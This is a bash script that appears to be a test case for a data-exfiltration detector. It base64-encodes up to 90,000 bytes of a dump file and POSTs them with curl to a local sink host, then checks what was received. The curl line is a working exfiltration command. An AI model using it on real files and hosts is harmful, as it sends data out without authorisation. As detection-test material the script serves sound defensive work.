#!/bin/bash
# B-argv: the dump's text on a command line: a shell takes in what base64 writes, and executes curl with it.
# flow: pipes to the shell, then argv over exec: curl reads nothing and sends what it was called with.
# tools: curl base64
# expect: sent encoded port critical
. "$CORPUS/lib.sh"
mkdump
sink http
curl -sS -d "$(head -c 90000 "$D" | base64 -w0)" "http://$SINK:$PORT/up"
sunk 100000
